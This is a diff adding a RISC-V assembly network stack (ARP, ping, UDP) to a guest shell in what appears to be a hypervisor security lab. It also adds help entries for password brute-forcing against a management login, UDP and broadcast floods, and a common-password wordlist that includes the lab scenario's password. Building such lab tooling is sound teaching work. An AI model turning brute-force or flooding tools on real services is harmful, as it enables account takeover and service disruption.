+        li   t1, 2
+        sb   t1, 0(t0)
+        sb   zero, 1(t0)
+        sb   zero, 2(t0)
+        sb   zero, 3(t0)
+        sb   zero, 4(t0)
+        la   t1, my_domid
+        lw   t1, 0(t1)
+        sb   t1, 5(t0)
+        la   t0, net_up
+        li   t1, 1
+        sw   t1, 0(t0)
+1:      ret
+
+# net_send: NET send(tx_buf, len).   in: a0 = frame length
+# out: a0 = bytes sent (0: the NIC dropped it, the rate limiter or a full queue)
+net_send:
+        mv   a1, a0
+        la   a0, tx_buf
+        li   a7, EID_NET
+        li   a6, NET_SEND
+        ecall
+        beqz a0, 1f
+        li   a1, 0
+1:      mv   a0, a1
+        ret
+
+# net_recv: NET recv(rx_buf, FRAME_MAX).   out: a0 = frame length, 0 when none waits
+net_recv:
+        la   a0, rx_buf
+        li   a1, FRAME_MAX
+        li   a7, EID_NET
+        li   a6, NET_RECV
+        ecall
+        beqz a0, 1f
+        li   a1, 0
+1:      mv   a0, a1
+        ret
+
+# wait_frame: wait for the frame a matcher wants. Every frame that arrives
+# first goes to net_service (answers ARP and ping, learns ARP replies), then
+# to the matcher. When the queue is empty the wait spins one round of
+# ROUND_INSNS instructions and looks again, at most a1 rounds: a spin and not
+# a wfi, because the lab has no timer yet and a wfi with nothing coming (a lost
+# packet, every other VM idle) would never return. FRAMES_PER_ROUND frames
+# that are not the one count as a round too, so a stream of other traffic (a
+# flood) cannot keep us waiting forever either. The rounds used are left in
+# wait_used (ping's time).
+# in: a0 = matcher (a0 = frame length -> a0 = 1 if wanted), a1 = rounds
+# out: a0 = length of the wanted frame (in rx_buf), 0 after the last round
+wait_frame:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        mv   s0, a0                     # s0 = matcher
+        mv   s1, a1                     # s1 = rounds left
+        li   s3, FRAMES_PER_ROUND       # s3 = other frames before they cost a round
+        la   t0, wait_used
+        sw   zero, 0(t0)
+1:      call net_recv
+        beqz a0, 3f
+        mv   s2, a0                     # s2 = length
+        call net_service
+        bnez a0, 2f                     # answered for the host: not for the caller
+        mv   a0, s2
+        jalr s0
+        beqz a0, 2f
+        mv   a0, s2
+        j    5f
+2:      addi s3, s3, -1                 # not the one
+        bnez s3, 1b
+        li   s3, FRAMES_PER_ROUND
+        li   a0, 0
+        beqz s1, 5f
+        addi s1, s1, -1
+        j    1b
+3:      li   a0, 0
+        beqz s1, 5f
+        addi s1, s1, -1
+        la   t0, wait_used
+        lw   t1, 0(t0)
+        addi t1, t1, 1
+        sw   t1, 0(t0)
+        li   t0, WAIT_SPIN
+4:      addi t0, t0, -1
+        bnez t0, 4b
+        j    1b
+5:      lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        addi sp, sp, 32
+        ret
+
+# net_service: what a host does with a frame whatever it is waiting for:
+# learn the sender of an ARP packet addressed to us, answer an ARP request
+# for our address, answer an ICMP echo request (ping) to us.
+# in: a0 = length of the frame in rx_buf   out: a0 = 1 if answered (consumed)
+net_service:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        mv   s0, a0                     # s0 = length
+        li   t0, ARP_END
+        bltu s0, t0, 8f
+        la   a0, rx_buf + ETH_TYPE
+        call get_be16
+        li   t0, ETH_TYPE_ARP
+        bne  a0, t0, 4f
+        la   a0, rx_buf + ARP_TPA       # ARP for us?
+        call get_be32
+        la   t0, my_ip
+        lw   t0, 0(t0)
+        bne  a0, t0, 8f
+        la   a0, rx_buf + ARP_SPA
+        call get_be32
+        mv   s1, a0                     # s1 = sender IP
+        la   a1, rx_buf + ARP_SHA
+        call arp_learn
+        la   a0, rx_buf + ARP_OP
+        call get_be16
+        li   t0, ARP_REQUEST
+        bne  a0, t0, 8f
+        li   a0, ARP_REPLY              # arp_frame(op, eth dst, target MAC, target IP)
+        la   a1, rx_buf + ARP_SHA
+        la   a2, rx_buf + ARP_SHA
+        mv   a3, s1
+        call arp_frame
+        call net_send
+        j    7f
+4:      li   t0, ETH_TYPE_IP            # an echo request to us?
+        bne  a0, t0, 8f
+        li   t0, UDP_DATA
+        bltu s0, t0, 8f
+        la   t0, rx_buf
+        lbu  t1, IP_VHL(t0)
+        li   t2, 0x45
+        bne  t1, t2, 8f
+        lbu  t1, IP_PROTO(t0)
+        li   t2, IP_PROTO_ICMP
+        bne  t1, t2, 8f
+        lbu  t1, ICMP_TYPE(t0)
+        li   t2, ICMP_ECHO_REQUEST
+        bne  t1, t2, 8f
+        la   a0, rx_buf + IP_DST
+        call get_be32
+        la   t0, my_ip
+        lw   t0, 0(t0)
+        bne  a0, t0, 8f
+        la   a0, rx_buf + IP_LEN        # echo data: IP length - 28, at most what arrived
+        call get_be16
+        addi s1, a0, -(IP_HEADER_LEN + ICMP_HEADER_LEN)
+        addi t0, s0, -ICMP_DATA
+        bleu s1, t0, 5f
+        mv   s1, t0
+5:      la   a0, rx_buf + ICMP_IDENT
+        call get_be16
+        mv   a3, a0
+        la   a0, rx_buf + ICMP_SEQ
+        call get_be16
+        mv   a4, a0
+        la   a0, rx_buf + IP_SRC
+        call get_be32
+        mv   a1, a0                     # icmp_echo(dst mac, dst ip, type, ident, seq, data, len)
+        la   a0, rx_buf + ETH_SRC
+        li   a2, ICMP_ECHO_REPLY
+        la   a5, rx_buf + ICMP_DATA
+        mv   a6, s1
+        call icmp_echo
+        call net_send
+7:      li   a0, 1
+        j    9f
+8:      li   a0, 0
+9:      lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        addi sp, sp, 16
+        ret
+
+# resolve: the MAC of an IPv4 address on our segment: from the ARP cache, or
+# by asking (ARP request, broadcast) up to ARP_TRIES times.
+# in: a0 = IP   out: a0 = pointer to the MAC in the cache, 0 if no one answered
+resolve:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        mv   s0, a0                     # s0 = IP
+        li   s1, ARP_TRIES
+1:      mv   a0, s0
+        call arp_lookup
+        bnez a0, 2f
+        beqz s1, 2f
+        addi s1, s1, -1
+        mv   a0, s0
+        call arp_request
+        la   t0, want_ip
+        sw   s0, 0(t0)
+        la   a0, match_arp_reply
+        li   a1, ARP_ROUNDS
+        call wait_frame
+        j    1b
+2:      lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        addi sp, sp, 16
+        ret
+
+# arp_request: broadcast "who has IP?".   in: a0 = IP
+arp_request:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        mv   a3, a0
+        li   a0, ARP_REQUEST
+        la   a1, broadcast_mac
+        la   a2, zero_mac               # target MAC: unknown, that is the question
+        call arp_frame
+        call net_send
+        lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
+
+# arp_lookup: in: a0 = IP   out: a0 = pointer to its MAC in the cache, or 0
+arp_lookup:
+        la   t0, arp_cache
+        la   t1, arp_count
+        lw   t1, 0(t1)
+1:      beqz t1, 2f
+        lw   t2, ARP_IP(t0)
+        beq  t2, a0, 3f
+        addi t0, t0, ARP_ENTRY
+        addi t1, t1, -1
+        j    1b
+2:      li   a0, 0
+        ret
+3:      addi a0, t0, ARP_MAC
+        ret
+
+# arp_learn: remember (or update) IP -> MAC. A full cache overwrites its
+# entries in turn, oldest first.   in: a0 = IP, a1 = pointer to the MAC
+arp_learn:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        mv   s0, a0
+        mv   s1, a1
+        call arp_lookup
+        bnez a0, 3f                     # known: update the MAC in place
+        la   t0, arp_count
+        lw   t1, 0(t0)
+        li   t2, ARP_SLOTS
+        bgeu t1, t2, 1f
+        addi t2, t1, 1                  # a free slot
+        sw   t2, 0(t0)
+        j    2f
+1:      la   t0, arp_next               # full: the next victim
+        lw   t1, 0(t0)
+        addi t2, t1, 1
+        li   t3, ARP_SLOTS
+        remu t2, t2, t3
+        sw   t2, 0(t0)
+2:      li   t0, ARP_ENTRY
+        mul  t1, t1, t0
+        la   t0, arp_cache
+        add  t0, t0, t1
+        sw   s0, ARP_IP(t0)
+        addi a0, t0, ARP_MAC
+3:      mv   a1, s1
+        li   a2, 6
+        call copy_bytes
+        lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        addi sp, sp, 16
+        ret
+
+# match_arp_reply: wait_frame's matcher for an ARP reply from want_ip.
+match_arp_reply:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        la   a0, rx_buf + ETH_TYPE
+        call get_be16
+        li   t0, ETH_TYPE_ARP
+        bne  a0, t0, 1f
+        la   a0, rx_buf + ARP_OP
+        call get_be16
+        li   t0, ARP_REPLY
+        bne  a0, t0, 1f
+        la   a0, rx_buf + ARP_SPA
+        call get_be32
+        la   t0, want_ip
+        lw   t0, 0(t0)
+        bne  a0, t0, 1f
+        li   a0, 1
+        j    2f
+1:      li   a0, 0
+2:      lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
+
+# match_nothing: a matcher that wants nothing (scan waits while net_service learns).
+match_nothing:
+        li   a0, 0
+        ret
+
+# ip_to_us: is the frame in rx_buf an IPv4 packet of protocol a0 sent to us?
+# in: a0 = protocol, a1 = frame length   out: a0 = 1 or 0
+ip_to_us:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        mv   s0, a0
+        li   t0, UDP_DATA               # the shortest UDP or ICMP echo frame
+        bltu a1, t0, 1f
+        la   a0, rx_buf + ETH_TYPE
+        call get_be16
+        li   t0, ETH_TYPE_IP
+        bne  a0, t0, 1f
+        la   t0, rx_buf
+        lbu  t1, IP_VHL(t0)
+        li   t2, 0x45
+        bne  t1, t2, 1f
+        lbu  t1, IP_PROTO(t0)
+        bne  t1, s0, 1f
+        la   a0, rx_buf + IP_DST
+        call get_be32
+        la   t0, my_ip
+        lw   t0, 0(t0)
+        bne  a0, t0, 1f
+        li   a0, 1
+        j    2f
+1:      li   a0, 0
+2:      lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        addi sp, sp, 16
+        ret
+
+# match_echo_reply: wait_frame's matcher for our echo reply (PING_IDENT,
+# want_seq) from want_ip.   in: a0 = frame length
+match_echo_reply:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        mv   a1, a0
+        li   a0, IP_PROTO_ICMP
+        call ip_to_us
+        beqz a0, 1f
+        la   t0, rx_buf
+        lbu  t1, ICMP_TYPE(t0)
+        li   t2, ICMP_ECHO_REPLY
+        bne  t1, t2, 1f
+        la   a0, rx_buf + ICMP_IDENT
+        call get_be16
+        li   t0, PING_IDENT
+        bne  a0, t0, 1f
+        la   a0, rx_buf + ICMP_SEQ
+        call get_be16
+        la   t0, want_seq
+        lw   t0, 0(t0)
+        bne  a0, t0, 1f
+        la   a0, rx_buf + IP_SRC
+        call get_be32
+        la   t0, want_ip
+        lw   t0, 0(t0)
+        bne  a0, t0, 1f
+        li   a0, 1
+        j    2f
+1:      li   a0, 0
+2:      lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
+
+# match_udp: wait_frame's matcher for a UDP datagram to us, to port
+# want_my_port, from want_ip (0: anyone) and port want_port (0: any).
+# in: a0 = frame length
+match_udp:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        mv   a1, a0
+        li   a0, IP_PROTO_UDP
+        call ip_to_us
+        beqz a0, 1f
+        la   a0, rx_buf + UDP_DPORT
+        call get_be16
+        la   t0, want_my_port
+        lw   t0, 0(t0)
+        bne  a0, t0, 1f
+        la   t0, want_ip
+        lw   t0, 0(t0)
+        beqz t0, 3f
+        la   a0, rx_buf + IP_SRC
+        call get_be32
+        la   t0, want_ip
+        lw   t0, 0(t0)
+        bne  a0, t0, 1f
+3:      la   t0, want_port
+        lw   t0, 0(t0)
+        beqz t0, 4f
+        la   a0, rx_buf + UDP_SPORT
+        call get_be16
+        la   t0, want_port
+        lw   t0, 0(t0)
+        bne  a0, t0, 1f
+4:      li   a0, 1
+        j    2f
+1:      li   a0, 0
+2:      lw   ra, 12(sp)
+        addi sp, sp, 16
+        ret
+
+# eth_header: the Ethernet header in tx_buf, from our MAC.
+# in: a0 = pointer to the destination MAC, a1 = ethertype
+eth_header:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        mv   s0, a1
+        mv   a1, a0
+        la   a0, tx_buf + ETH_DST
+        li   a2, 6
+        call copy_bytes
+        la   a0, tx_buf + ETH_SRC
+        la   a1, my_mac
+        li   a2, 6
+        call copy_bytes
+        la   a0, tx_buf + ETH_TYPE
+        mv   a1, s0
+        call put_be16
+        lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        addi sp, sp, 16
+        ret
+
+# arp_frame: an ARP packet in tx_buf, from us.
+# in: a0 = op (1 request, 2 reply), a1 = pointer to the Ethernet destination,
+#     a2 = pointer to the target MAC, a3 = target IP   out: a0 = frame length
+arp_frame:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        sw   s2, 0(sp)
+        mv   s0, a0
+        mv   s1, a2
+        mv   s2, a3
+        mv   a0, a1
+        li   a1, ETH_TYPE_ARP
+        call eth_header
+        la   a0, tx_buf + ARP_HTYPE     # Ethernet
+        li   a1, 1
+        call put_be16
+        la   a0, tx_buf + ARP_PTYPE     # IPv4
+        li   a1, ETH_TYPE_IP
+        call put_be16
+        la   t0, tx_buf
+        li   t1, 6
+        sb   t1, ARP_HLEN(t0)
+        li   t1, 4
+        sb   t1, ARP_PLEN(t0)
+        la   a0, tx_buf + ARP_OP
+        mv   a1, s0
+        call put_be16
+        la   a0, tx_buf + ARP_SHA
+        la   a1, my_mac
+        li   a2, 6
+        call copy_bytes
+        la   a0, tx_buf + ARP_SPA
+        la   t0, my_ip
+        lw   a1, 0(t0)
+        call put_be32
+        la   a0, tx_buf + ARP_THA
+        mv   a1, s1
+        li   a2, 6
+        call copy_bytes
+        la   a0, tx_buf + ARP_TPA
+        mv   a1, s2
+        call put_be32
+        li   a0, ARP_END
+        lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        lw   s2, 0(sp)
+        addi sp, sp, 16
+        ret
+
+# ip_header: the IPv4 header in tx_buf (after the Ethernet header), from us,
+# with a fresh ident, TTL 64, "don't fragment" and its header checksum.
+# in: a0 = destination IP, a1 = protocol, a2 = bytes after the IP header
+ip_header:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        sw   s2, 0(sp)
+        mv   s0, a0
+        mv   s1, a1
+        mv   s2, a2
+        la   t0, tx_buf
+        li   t1, 0x45                   # version 4, header of 5 words
+        sb   t1, IP_VHL(t0)
+        sb   zero, IP_TOS(t0)
+        la   a0, tx_buf + IP_LEN
+        addi a1, s2, IP_HEADER_LEN
+        call put_be16
+        la   t0, ip_ident
+        lw   a1, 0(t0)
+        addi a1, a1, 1
+        sw   a1, 0(t0)
+        la   a0, tx_buf + IP_IDENT
+        call put_be16
+        la   t0, tx_buf
+        li   t1, 0x40                   # flags: don't fragment
+        sb   t1, IP_FRAG(t0)
+        sb   zero, IP_FRAG + 1(t0)
+        li   t1, 64
+        sb   t1, IP_TTL(t0)
+        sb   s1, IP_PROTO(t0)
+        sb   zero, IP_CSUM(t0)
+        sb   zero, IP_CSUM + 1(t0)
+        la   a0, tx_buf + IP_SRC
+        la   t0, my_ip
+        lw   a1, 0(t0)
+        call put_be32
+        la   a0, tx_buf + IP_DST
+        mv   a1, s0
+        call put_be32
+        la   a0, tx_buf + IP_VHL        # the checksum covers the header only
+        li   a1, IP_HEADER_LEN
+        li   a2, 0
+        call csum_add
+        call csum_fold
+        mv   a1, a0
+        la   a0, tx_buf + IP_CSUM
+        call put_be16
+        lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        lw   s2, 0(sp)
+        addi sp, sp, 16
+        ret
+
+# udp_frame: a whole UDP datagram in tx_buf, checksums and all.
+# in: a0 = pointer to the destination MAC, a1 = destination IP, a2 = source
+#     port, a3 = destination port, a4 = data, a5 = its length (<= MAX_UDP_DATA)
+# out: a0 = frame length
+udp_frame:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        sw   s4, 8(sp)
+        mv   s0, a1                     # s0 = destination IP
+        mv   s1, a2                     # s1 = source port
+        mv   s2, a3                     # s2 = destination port
+        mv   s3, a4                     # s3 = data
+        addi s4, a5, UDP_HEADER_LEN     # s4 = UDP length
+        li   a1, ETH_TYPE_IP
+        call eth_header
+        la   a0, tx_buf + UDP_DATA
+        mv   a1, s3
+        addi a2, s4, -UDP_HEADER_LEN
+        call copy_bytes
+        mv   a0, s0
+        li   a1, IP_PROTO_UDP
+        mv   a2, s4
+        call ip_header
+        la   a0, tx_buf + UDP_SPORT
+        mv   a1, s1
+        call put_be16
+        la   a0, tx_buf + UDP_DPORT
+        mv   a1, s2
+        call put_be16
+        la   a0, tx_buf + UDP_LEN
+        mv   a1, s4
+        call put_be16
+        la   t0, tx_buf
+        sb   zero, UDP_CSUM(t0)
+        sb   zero, UDP_CSUM + 1(t0)
+        la   a0, tx_buf + IP_SRC        # pseudo-header: source and destination,
+        li   a1, 8
+        addi a2, s4, IP_PROTO_UDP       # then zero, protocol and UDP length
+        call csum_add
+        mv   a2, a0
+        la   a0, tx_buf + UDP_SPORT     # then the UDP header and data
+        mv   a1, s4
+        call csum_add
+        call csum_fold
+        bnez a0, 1f
+        li   a0, 0xffff                 # RFC 768: a computed 0 is sent as all ones
+1:      mv   a1, a0
+        la   a0, tx_buf + UDP_CSUM
+        call put_be16
+        addi a0, s4, UDP_SPORT          # frame length
+        lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        lw   s4, 8(sp)
+        addi sp, sp, 32
+        ret
+
+# icmp_echo: an ICMP echo request or reply in tx_buf.
+# in: a0 = pointer to the destination MAC, a1 = destination IP, a2 = type
+#     (8 request, 0 reply), a3 = ident, a4 = seq, a5 = data, a6 = its length
+# out: a0 = frame length
+icmp_echo:
+        addi sp, sp, -32
+        sw   ra, 28(sp)
+        sw   s0, 24(sp)
+        sw   s1, 20(sp)
+        sw   s2, 16(sp)
+        sw   s3, 12(sp)
+        sw   s4, 8(sp)
+        sw   s5, 4(sp)
+        mv   s0, a1                     # s0 = destination IP
+        mv   s1, a2                     # s1 = type
+        mv   s2, a3                     # s2 = ident
+        mv   s3, a4                     # s3 = seq
+        mv   s4, a5                     # s4 = data
+        addi s5, a6, ICMP_HEADER_LEN    # s5 = ICMP length
+        li   a1, ETH_TYPE_IP
+        call eth_header
+        la   a0, tx_buf + ICMP_DATA
+        mv   a1, s4
+        addi a2, s5, -ICMP_HEADER_LEN
+        call copy_bytes
+        mv   a0, s0
+        li   a1, IP_PROTO_ICMP
+        mv   a2, s5
+        call ip_header
+        la   t0, tx_buf
+        sb   s1, ICMP_TYPE(t0)
+        sb   zero, ICMP_CODE(t0)
+        sb   zero, ICMP_CSUM(t0)
+        sb   zero, ICMP_CSUM + 1(t0)
+        la   a0, tx_buf + ICMP_IDENT
+        mv   a1, s2
+        call put_be16
+        la   a0, tx_buf + ICMP_SEQ
+        mv   a1, s3
+        call put_be16
+        la   a0, tx_buf + ICMP_TYPE     # the checksum covers the ICMP message
+        mv   a1, s5
+        li   a2, 0
+        call csum_add
+        call csum_fold
+        mv   a1, a0
+        la   a0, tx_buf + ICMP_CSUM
+        call put_be16
+        addi a0, s5, ICMP_TYPE          # frame length
+        lw   ra, 28(sp)
+        lw   s0, 24(sp)
+        lw   s1, 20(sp)
+        lw   s2, 16(sp)
+        lw   s3, 12(sp)
+        lw   s4, 8(sp)
+        lw   s5, 4(sp)
+        addi sp, sp, 32
+        ret
+
+# csum_add: add bytes to a one's-complement sum as big-endian 16-bit words
+# (an odd last byte is the high half of a word). 32 bits hold the carries of
+# up to 65537 words, far more than a frame.
+# in: a0 = bytes, a1 = how many, a2 = sum so far   out: a0 = sum
+csum_add:
+        li   t3, 2
+1:      bltu a1, t3, 2f
+        lbu  t0, 0(a0)
+        lbu  t1, 1(a0)
+        slli t0, t0, 8
+        or   t0, t0, t1
+        add  a2, a2, t0
+        addi a0, a0, 2
+        addi a1, a1, -2
+        j    1b
+2:      beqz a1, 3f
+        lbu  t0, 0(a0)
+        slli t0, t0, 8
+        add  a2, a2, t0
+3:      mv   a0, a2
+        ret
+
+# csum_fold: fold the carries back in and complement: the checksum field.
+# in: a0 = sum   out: a0 = 16-bit checksum
+csum_fold:
+        li   t1, 0xffff
+1:      srli t0, a0, 16
+        beqz t0, 2f
+        and  a0, a0, t1
+        add  a0, a0, t0
+        j    1b
+2:      xor  a0, a0, t1
+        ret
+
+# put_be16 / put_be32: store a value big-endian.   in: a0 = where, a1 = value
+put_be16:
+        srli t0, a1, 8
+        sb   t0, 0(a0)
+        sb   a1, 1(a0)
+        ret
+put_be32:
+        srli t0, a1, 24
+        sb   t0, 0(a0)
+        srli t0, a1, 16
+        sb   t0, 1(a0)
+        srli t0, a1, 8
+        sb   t0, 2(a0)
+        sb   a1, 3(a0)
+        ret
+
+# get_be16 / get_be32: load a big-endian value.   in: a0 = where   out: a0 = value
+get_be16:
+        lbu  t0, 0(a0)
+        lbu  t1, 1(a0)
+        slli t0, t0, 8
+        or   a0, t0, t1
+        ret
+get_be32:
+        lbu  t0, 0(a0)
+        lbu  t1, 1(a0)
+        slli t0, t0, 24
+        slli t1, t1, 16
+        or   t0, t0, t1
+        lbu  t1, 2(a0)
+        slli t1, t1, 8
+        or   t0, t0, t1
+        lbu  t1, 3(a0)
+        or   a0, t0, t1
+        ret
+
+# copy_bytes: in: a0 = destination, a1 = source, a2 = how many
+copy_bytes:
+1:      beqz a2, 2f
+        lbu  t0, 0(a1)
+        sb   t0, 0(a0)
+        addi a0, a0, 1
+        addi a1, a1, 1
+        addi a2, a2, -1
+        j    1b
+2:      ret
+
+# parse_ip: a dotted IPv4 address: four decimal numbers 0..255 and three dots.
+# in: a0 = string   out: a0 = address, a1 = 1 if it was one (0 if not)
+parse_ip:
+        li   t2, 0                      # t2 = address so far
+        li   t3, 0                      # t3 = parts done
+        li   t5, 10
+1:      li   t4, 0                      # t4 = this part
+        li   t6, 0                      # t6 = its digits
+2:      lbu  t0, 0(a0)
+        addi t1, t0, -'0'
+        bgeu t1, t5, 3f
+        mul  t4, t4, t5
+        add  t4, t4, t1
+        addi t6, t6, 1
+        li   t1, 3
+        bgtu t6, t1, 9f                 # "0001" is not a part
+        addi a0, a0, 1
+        j    2b
+3:      beqz t6, 9f
+        li   t1, 255
+        bgtu t4, t1, 9f
+        slli t2, t2, 8
+        or   t2, t2, t4
+        addi t3, t3, 1
+        li   t1, 4
+        beq  t3, t1, 4f
+        li   t1, '.'
+        bne  t0, t1, 9f
+        addi a0, a0, 1
+        j    1b
+4:      bnez t0, 9f                     # nothing may follow the fourth part
+        mv   a0, t2
+        li   a1, 1
+        ret
+9:      li   a0, 0
+        li   a1, 0
+        ret
+
+# put_ip: print an IPv4 address dotted.   in: a0 = address
+put_ip:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        mv   s0, a0
+        li   s1, 24                     # s1 = shift of the next part
+1:      srl  a0, s0, s1
+        andi a0, a0, 0xff
+        call put_dec
+        beqz s1, 2f
+        li   a0, '.'
+        call putc
+        addi s1, s1, -8
+        j    1b
+2:      lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        addi sp, sp, 16
+        ret
+
+# put_mac: print a MAC as six hex bytes with colons.   in: a0 = pointer to it
+put_mac:
+        addi sp, sp, -16
+        sw   ra, 12(sp)
+        sw   s0, 8(sp)
+        sw   s1, 4(sp)
+        mv   s0, a0
+        li   s1, 0
+1:      add  t0, s0, s1
+        lbu  a0, 0(t0)
+        li   a1, 2
+        call put_hex
+        addi s1, s1, 1
+        li   t0, 6
+        beq  s1, t0, 2f
+        li   a0, ':'
+        call putc
+        j    1b
+2:      lw   ra, 12(sp)
+        lw   s0, 8(sp)
+        lw   s1, 4(sp)
+        addi sp, sp, 16
+        ret
+
 # ================================================================== data
 # On its own page: the pure-Python CPU checks stores against pages that hold
 # code, so keeping data away from code keeps every store cheap.
@@ -1481,6 +3217,16 @@ commands:
         .word s_ring,    cmd_ring,    0, 0,        h_ring
         .word s_rlog,    cmd_rlog,    1, MAX_ARGS, h_rlog
         .word s_race,    cmd_race,    1, 1,        h_race
+        .word s_ip,      cmd_ip,      0, 0,        h_ip
+        .word s_arp,     cmd_arp,     0, 0,        h_arp
+        .word s_scan,    cmd_scan,    0, 0,        h_scan
+        .word s_ping,    cmd_ping,    1, 2,        h_ping
+        .word s_send,    cmd_send,    3, MAX_ARGS, h_send
+        .word s_listen,  cmd_listen,  1, 2,        h_listen
+        .word s_brute,   cmd_brute,   1, 2,        h_brute
+        .word s_flood,   cmd_flood,   3, 3,        h_flood
+        .word s_storm,   cmd_storm,   3, 3,        h_storm
+        .word s_sendn,   cmd_sendn,   4, MAX_ARGS, h_sendn
         .word 0, 0, 0, 0, 0
 
 s_help:    .asciz "help"
@@ -1507,6 +3253,16 @@ s_drecv:   .asciz "drecv"
 s_ring:    .asciz "ring"
 s_rlog:    .asciz "rlog"
 s_race:    .asciz "race"
+s_ip:      .asciz "ip"
+s_arp:     .asciz "arp"
+s_scan:    .asciz "scan"
+s_ping:    .asciz "ping"
+s_send:    .asciz "send"
+s_listen:  .asciz "listen"
+s_brute:   .asciz "brute"
+s_flood:   .asciz "flood"
+s_storm:   .asciz "storm"
+s_sendn:   .asciz "sendn"
 
 h_help:    .asciz "help                      list the commands"
 h_hcall:   .asciz "hcall EID FID [A0 .. A5]  make a hypercall, print a0 (error) and a1 (value)"
@@ -1532,6 +3288,16 @@ h_drecv:   .asciz "drecv                     receive the oldest datagram (DGRAM)
 h_ring:    .asciz "ring                      share our request ring with the backend (DGRAM ring_setup)"
 h_rlog:    .asciz "rlog TEXT                 ask the backend to log TEXT through the ring (doorbell)"
 h_race:    .asciz "race LEN                  honest 16-byte request, then len = LEN after the doorbell"
+h_ip:      .asciz "ip                        this VM's IPv4 and MAC addresses (NET info)"
+h_arp:     .asciz "arp                       the ARP cache: IP -> MAC"
+h_scan:    .asciz "scan                      ARP .1 to .30 of our network: who is there?"
+h_ping:    .asciz "ping IP [COUNT]           ICMP echo: replies with seq and time in instructions"
+h_send:    .asciz "send IP PORT TEXT         TEXT as a UDP datagram from port 40000; print the answer"
+h_listen:  .asciz "listen PORT [COUNT]       print UDP datagrams to PORT (COUNT of them, or until a key)"
+h_brute:   .asciz "brute USER [IP]           guess USER's management login from a wordlist (UDP 6230)"
+h_flood:   .asciz "flood IP PORT COUNT       send COUNT junk UDP requests to IP:PORT, fast"
+h_storm:   .asciz "storm IP PORT COUNT       the same flood, to the Ethernet broadcast address"
+h_sendn:   .asciz "sendn COUNT IP PORT TEXT  send TEXT COUNT times, count the answers that say OK"
 
 # SBI error names, indexed by -code (SBI v2.0, "Standard SBI Errors").
         .balign 4
@@ -1606,6 +3372,77 @@ msg_impl:          .asciz "implementation id "
 msg_this_vm:       .asciz "this VM is dom"
 msg_of:            .asciz " of "
 msg_vms:           .asciz " VMs\n"
+msg_no_nic:        .asciz "error: this VM has no network interface\n"
+msg_bad_ip:        .asciz "error: bad IPv4 address '"
+msg_bad_ip_end:    .asciz "' (like 10.0.0.1)\n"
+msg_ip:            .asciz "ip "
+msg_mac:           .asciz " mac "
+msg_is_at:         .asciz " is at "
+msg_arp_empty:     .asciz "the ARP cache is empty\n"
+msg_scanned:       .asciz "hosts that answered ARP:\n"
+msg_no_arp:        .asciz "no ARP reply from "
+msg_reply_from:    .asciz "reply from "
+msg_seq:           .asciz ": seq="
+msg_time:          .asciz " time="
+msg_instructions:  .asciz " instructions\n"
+msg_no_reply_seq:  .asciz "no reply: seq="
+msg_sent_received: .asciz " sent, "
+msg_received:      .asciz " received\n"
+msg_reply_colon:   .asciz "reply: "
+msg_no_answer:     .asciz "no answer\n"
+msg_nic_dropped:   .asciz "the NIC dropped the frame (rate limit)\n"
+msg_listening:     .asciz "listening on UDP port "
+msg_from_ip:       .asciz "from "
+msg_trying:        .asciz "trying "
+msg_password:      .asciz "password: "
+msg_token:         .asciz "\ntoken: "
+msg_locked:        .asciz "locked out after "
+msg_tries:         .asciz " tries\n"
+msg_no_password:   .asciz "no password of the wordlist worked ("
+msg_tried:         .asciz " tried)\n"
+msg_flood:         .asciz "flood: "
+msg_sent_comma:    .asciz " sent, "
+msg_dropped:       .asciz " dropped by the NIC\n"
+msg_sendn:         .asciz "sendn: "
+msg_answered_ok:   .asciz " answered OK\n"
+s_login:           .asciz "LOGIN "
+s_ok:              .asciz "OK"
+s_ok_space:        .asciz "OK "
+s_locked:          .asciz "ERR locked"
+
+# brute's wordlist: the most common passwords of leaked password lists (and
+# `letmein`, the vulnerable scenario's). Ends with a 0.
+        .balign 4
+wordlist:
+        .word w_123456, w_password, w_admin, w_12345678, w_qwerty, w_123456789
+        .word w_12345, w_1234, w_111111, w_1234567, w_dragon, w_123123
+        .word w_letmein, w_baseball, w_abc123, w_football, w_monkey, w_iloveyou
+        .word w_root, w_toor, 0
